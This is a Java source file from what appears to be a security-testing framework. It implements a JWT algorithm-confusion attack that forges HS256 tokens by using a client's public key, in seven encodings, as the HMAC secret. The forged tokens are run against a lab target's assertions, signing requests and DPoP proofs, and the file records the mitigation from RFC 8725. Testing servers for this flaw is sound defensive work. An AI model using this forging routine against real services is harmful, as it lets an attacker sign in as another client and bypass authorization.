package dev.countersign.attacker.recipe.jose;

import dev.countersign.attacker.forge.Keys;
import dev.countersign.attacker.play.About;
import dev.countersign.attacker.play.Attacker;
import dev.countersign.attacker.play.Goal;
import dev.countersign.attacker.play.Lab;
import dev.countersign.attacker.play.Need;
import dev.countersign.attacker.play.Play;
import dev.countersign.attacker.play.Recipe;
import dev.countersign.protocol.jose.PublicJwk;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/** A public key, which everybody knows, taken for the secret of a MAC. */
final class AlgConfusion implements Recipe {
  private static final int PEM_LINE = 64;

  @Override
  public About about() {
    return About.of("J-02", "alg-confusion")
        .also("ATT-34")
        .by(Attacker.A1)
        .endangers(Goal.AUTHORIZATION, Goal.SESSION_INTEGRITY, Goal.NON_REPUDIATION)
        .needs(Need.ASSERTION)
        .stoppedBy("SP-5.4.1-1.2", "the algorithm follows from the type of the registered key")
        .means("Whoever knows a client's public key can sign in its name.")
        .change("Pin the algorithm to the key, and accept no MAC (RFC 8725 sections 2.1, 3.1).");
  }

  private static Variant mac(String form, byte[] secret) {
    return Variant.of(
        "HS256, the secret is the public key as " + form,
        jwt -> jwt.header("alg", "HS256").signedBy(Keys.hmac(secret)));
  }

  private static List<Variant> variants(PublicJwk key) {
    byte[] der = key.key().getEncoded();
    byte[] newline = {'\n'};
    Base64.Encoder lines = Base64.getMimeEncoder(PEM_LINE, newline);
    String pem =
        "-----BEGIN PUBLIC KEY-----\n" + lines.encodeToString(der) + "\n-----END PUBLIC KEY-----";
    return List.of(
        mac("PEM", utf8(pem)),
        mac("PEM with a last newline", utf8(pem + "\n")),
        mac("DER", der),
        mac("base64 of its DER", utf8(Base64.getEncoder().encodeToString(der))),
        mac("JWK of its required members", key.requiredMembers().toBytes()),
        mac("JWK as published", key.toJson().toBytes()),
        mac("its kid", utf8(key.kid().orElse(key.thumbprint().value()))));
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  @Override
  public void play(Play play, Lab lab) throws IOException {
    Doors doors = new Doors(play, lab, "SP-5.4.1-1.2");
    doors.assertions(lab.asserting(), variants(lab.asserting().key().publicJwk()));
    if (doors.takesObjects()) {
      doors.objects(lab.signingRequests(), variants(lab.signingRequests().key().publicJwk()));
    }
    if (doors.takesProofs()) {
      doors.proofs(variants(lab.proving().dpopKey().publicJwk()));
    }
  }
}
